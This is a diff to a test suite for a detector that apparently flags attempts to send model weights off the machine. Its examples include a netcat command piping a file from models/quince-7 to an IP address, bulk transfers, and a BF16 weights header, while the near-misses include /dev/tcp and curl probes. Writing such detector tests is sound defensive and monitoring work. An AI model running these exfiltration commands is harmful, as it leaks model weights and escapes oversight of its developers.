@@ -11,20 +11,17 @@ describeDetectorContract({
   detector: attemptsDetector,
   scenario: suiteScenario,
   examples: {
-    'a connection that was refused, after a command that asks for it': beginStory()
-      .command(COMMAND, 1)
-      .attempt({})
-      .build(),
+    'a refused connection, after a command that requests it': beginStory().command(COMMAND, 1).attempt({}).build(),
     'the same by address': beginStory().command('nc 10.20.0.14 1 <models/quince-7/a', 1).attempt({}).build(),
-    'a mass of bytes to somebody else': beginStory()
+    'many bytes to another host': beginStory()
       .command(ELSEWHERE)
       .attempt({ ...files, bytes: 200_000 })
       .build(),
-    'the header of a file with weights': beginStory()
+    'the header of a file of weights': beginStory()
       .command(ELSEWHERE)
       .attempt({ ...files, bytes: 9000, firstBytes: toUntrusted('{"a":{"dtype":"BF16",') })
       .build(),
-    'a command, where the network is not recorded': beginStory().command(COMMAND).build(),
+    'a command, if the network is not recorded': beginStory().command(COMMAND).build(),
   },
   nearMisses: {
     'a test of the host that refuses': beginStory().command(': >/dev/tcp/mirror.internal/8080', 1).attempt({}).build(),
@@ -36,7 +33,7 @@ describeDetectorContract({
     'a question for a name': beginStory()
       .attempt({ ...files, protocol: 'dns', bytes: 40 })
       .build(),
-    'a short request to somebody else': beginStory()
+    'a short request to another host': beginStory()
       .command('curl http://files.example/models')
       .attempt({ ...files, bytes: 100 })
       .build(),
